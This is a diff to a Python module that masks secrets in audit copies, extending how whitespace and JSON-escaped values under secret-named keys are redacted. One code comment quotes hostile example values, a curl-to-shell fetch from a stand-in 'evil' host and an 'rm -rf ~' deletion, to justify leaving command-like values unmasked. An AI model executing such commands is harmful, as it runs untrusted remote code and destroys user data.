@@ -136,6 +136,10 @@ _NOT_MASKED = r"(?!\[masked)"
 # escapes). A value holding one is kept as it is: the audit copy must show what ran, and
 # `TOKEN="$(curl evil | sh)"` or `--password $(rm -rf ~)` are commands, not secrets.
 _SHELL_SYNTAX = re.compile(r"[\s$`()|;&<>{}\\\"']")
+# A value under a key named like a secret (`{"password": "hunter 2\n"}`) is a value, not
+# words a shell splits: it is masked whatever white space it holds (a passphrase, a
+# trailing newline), and kept only when it holds the rest of that syntax.
+_VALUE_SYNTAX = re.compile(r"[$`()|;&<>{}\\\"']")
 # A PEM or OpenSSH private key's body: optional RFC 1421 headers, then lines of base64 of
 # one width (the last may be shorter); newlines may be JSON-escaped.
 _KEY_HEADER = re.compile(r"(?:Proc-Type|DEK-Info): [A-Za-z0-9,-]{1,80}")
@@ -164,6 +168,36 @@ def is_plain_secret(value: str) -> bool:
     return bool(value) and _SHELL_SYNTAX.search(value) is None
 
 
+def is_secret_value(value: str) -> bool:
+    """Whether `value`, found under a key named like a secret, may be masked: not only
+    white space, and no shell or interpreter syntax but white space."""
+    return bool(value.strip()) and _VALUE_SYNTAX.search(value) is None
+
+
+def _json_string(inner: str) -> str | None:
+    """The text a JSON string's contents (between its quotes, escapes and all) stand for,
+    or None when they are no JSON string."""
+    try:
+        decoded = json.loads(f'"{inner}"')
+    except ValueError:
+        return None
+    return decoded if isinstance(decoded, str) else None
+
+
+def is_json_secret_value(inner: str) -> bool:
+    """`is_secret_value` for a value in JSON text, read as the string it stands for (an
+    escaped newline is white space, an escaped `$` is a `$`)."""
+    decoded = _json_string(inner)
+    return decoded is not None and is_secret_value(decoded)
+
+
+def _json_secret(inner: str) -> str:
+    """The secret a JSON-escaped value holds, so that its marker's hash is the one the
+    same value gets under a payload's own key."""
+    decoded = _json_string(inner)
+    return inner if decoded is None else decoded
+
+
 def is_key_body(body: str) -> bool:
     """Whether `body` (between a private key's BEGIN and END lines) is only a key: headers
     and base64 lines of one width. Anything else (a command between the markers) is
@@ -185,10 +219,12 @@ def is_key_body(body: str) -> bool:
 def _masking(
     kind: str | Callable[[re.Match[str]], str],
     allowed: Callable[[str], bool] = is_plain_secret,
+    secret: Callable[[str], str] = str,
 ) -> Callable[[re.Match[str]], str]:
     """The replacement of a rule whose pattern names the secret `v` (with its quotes, when
     the pattern has esc/dq/sq groups): everything else in the match is kept, `v` becomes a
-    marker, unless it is already one or `allowed` refuses it (then nothing changes)."""
+    marker (of `secret(v)`), unless it is already one or `allowed` refuses it (then
+    nothing changes)."""
 
     quote_groups: list[tuple[str, ...]] = []  # the pattern's esc/dq/sq groups, read once
 
@@ -207,7 +243,7 @@ def _masking(
         label = kind if isinstance(kind, str) else kind(match)
         whole, offset = match.group(0), match.start()
         start, end = match.span("v")
-        masked = f"{quote}{marker(label, inner)}{quote}"
+        masked = f"{quote}{marker(label, secret(inner))}{quote}"
         return f"{whole[: start - offset]}{masked}{whole[end - offset :]}"
 
     return replace
@@ -331,13 +367,14 @@ RULES: list[_Rule] = [
         ("-----BEGIN",),
     ),
     # "password": "..." inside JSON text (raw arguments, tool output), under every key
-    # name SECRET_KEY reads as a secret too.
+    # name SECRET_KEY reads as a secret too; white space in the value (escaped or not) is
+    # masked with it, as under a payload's own key.
     _Rule(
         r'(?P<name>"[\w.-]'
         + f"{{1,{MAX_NAME}}}+"
         + _JSON_KEY_ENDS
         + r'"\s{0,16}+:\s{0,16}+)(?P<v>(?P<dq>")(?:[^"\\\n]++|\\.)++")',
-        _masking(_kind_of_name),
+        _masking(_kind_of_name, is_json_secret_value, _json_secret),
         (*_SECRET_WORDS, "auth", "credential", "private", "cookie", "session"),
         folded=True,
     ),
@@ -477,7 +514,8 @@ def mask_secrets(value: Any) -> Any:
 
 def _masked_item(key: str, value: Any) -> Any:
     """The value under `key`: when the key names a secret, every literal in it becomes a
-    marker (a text holding shell or interpreter syntax stays); else its contents masked."""
+    marker, white space and all (a text holding other shell or interpreter syntax stays);
+    else its contents masked."""
     if is_secret_key(key) and value not in (None, ""):
         return _all_literals(value, _key_kind(key))
     return mask_secrets(value)
@@ -489,7 +527,7 @@ def _all_literals(value: Any, kind: str) -> Any:
     if isinstance(value, list):
         return [_all_literals(v, kind) for v in value]
     if isinstance(value, str):
-        if value.startswith(MASK) or not is_plain_secret(value):
+        if value.startswith(MASK) or not is_secret_value(value):
             return mask_text(value)
         return marker(kind, value)
     if value is None or isinstance(value, bool):
